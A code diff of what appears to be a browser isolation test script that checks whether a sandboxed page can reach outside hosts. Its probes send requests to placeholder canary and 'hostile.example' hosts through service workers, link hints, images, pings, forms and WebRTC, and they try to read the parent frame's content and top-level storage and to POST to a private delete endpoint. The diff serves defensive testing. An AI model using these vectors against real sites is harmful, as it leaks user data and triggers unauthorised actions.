@@ -71,15 +71,6 @@
     worker.onerror = fail;
   }));
   await attempt("service-worker", () => navigator.serviceWorker.register(HOST + "/evil/TIMESTAMPjs_/http://hostile.example/ok.txt").then(() => "REACHED"));
-  await attempt("rtc", async () => {
-    const Connection = window.RTCPeerConnection;
-    if (!Connection) return "none";
-    const connection = new Connection({ iceServers: [{ urls: "stun:PEER" }] });
-    connection.createDataChannel("x");
-    await connection.setLocalDescription(await connection.createOffer());
-    await new Promise((done) => setTimeout(done, 500));
-    return "tried";
-  });
   for (const rel of ["preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload", "icon", "stylesheet"]) {
     await attempt(rel, async () => {
       const link = document.createElement("link");
@@ -140,6 +131,88 @@
     return "tried";
   });
   say("done");
-  setTimeout(() => { location.href = HOST + "/private/TIMESTAMPmp_/http://private.example/"; }, 300);
-  setTimeout(() => { location.href = "CANARY/location"; }, 600);
+  await attempt("rtc", async () => {
+    const Connection = window.RTCPeerConnection;
+    if (!Connection) return "none";
+    const connection = new Connection({ iceServers: [{ urls: "stun:PEER" }] });
+    connection.createDataChannel("x");
+    await connection.setLocalDescription(await connection.createOffer());
+    await new Promise((done) => setTimeout(done, 500));
+    return "tried";
+  });
+})();`;
+    const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
+    worker.onmessage = (event) => done(event.data);
+    worker.onerror = fail;
+  }));
+  await attempt("service-worker", () => navigator.serviceWorker.register(HOST + "/evil/TIMESTAMPjs_/http://hostile.example/ok.txt").then(() => "REACHED"));
+  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "prerender", "preload", "modulepreload", "icon", "stylesheet"]) {
+    await attempt(rel, async () => {
+      const link = document.createElement("link");
+      link.rel = rel;
+      link.as = "script";
+      link.href = "CANARY/hint-" + rel;
+      document.head.append(link);
+      const holder = document.createElement("div");
+      holder.innerHTML = `<link rel=${rel} href="CANARY/markup-${rel}">`;
+      document.head.append(holder.firstChild);
+      return "tried";
+    });
+  }
+  await attempt("picture", async () => {
+    new Image().src = "CANARY/picture";
+    document.body.insertAdjacentHTML("beforeend", "<img src='CANARY/adjacent'><p style='background:url(CANARY/p)'>");
+    document.body.style.cssText = "background: url(CANARY/css)";
+    const audio = new Audio("CANARY/audio");
+    audio.load();
+    return "tried";
+  });
+  await attempt("rules", async () => {
+    const rules = document.createElement("script");
+    rules.type = "speculationrules";
+    rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["CANARY/rules"] }], prerender: [{ source: "list", urls: ["CANARY/rules-render"] }] });
+    document.head.append(rules);
+    return "tried";
+  });
+  await attempt("cookie", () => { document.cookie = "mark=1; path=/"; return "set"; });
+  await attempt("parent", () => (window.parent === window ? "none" : parent.document.documentElement.textContent + "REACHED"));
+  await attempt("top", () => { if (window.top !== window) { top.location = "CANARY/top"; } return "tried"; });
+  await attempt("top-storage", () => (window.top === window ? "none" : "REACHED" + top.localStorage.length));
+  await attempt("open", () => { const other = window.open("CANARY/open"); return other ? "REACHED" : "null"; });
+  await attempt("open-server", () => { const other = window.open(HOST + "/private/TIMESTAMPmp_/http://private.example/"); return other ? "REACHED" : "null"; });
+  await attempt("link", () => {
+    const link = document.createElement("a");
+    link.href = "CANARY/link";
+    link.target = "_blank";
+    link.ping = "CANARY/ping";
+    document.body.append(link);
+    link.dispatchEvent(new MouseEvent("click", { cancelable: true }));
+    return "tried";
+  });
+  await attempt("post", () => {
+    const frame = document.createElement("iframe");
+    frame.name = "posted";
+    document.body.append(frame);
+    const form = document.createElement("form");
+    form.method = "post";
+    form.action = HOST + "/private/delete";
+    form.target = "posted";
+    document.body.append(form);
+    HTMLFormElement.prototype.submit.call(form);
+    const out = form.cloneNode(true);
+    out.action = "CANARY/form";
+    document.body.append(out);
+    HTMLFormElement.prototype.submit.call(out);
+    return "tried";
+  });
+  say("done");
+  await attempt("rtc", async () => {
+    const Connection = window.RTCPeerConnection;
+    if (!Connection) return "none";
+    const connection = new Connection({ iceServers: [{ urls: "stun:PEER" }] });
+    connection.createDataChannel("x");
+    await connection.setLocalDescription(await connection.createOffer());
+    await new Promise((done) => setTimeout(done, 500));
+    return "tried";
+  });
 })();
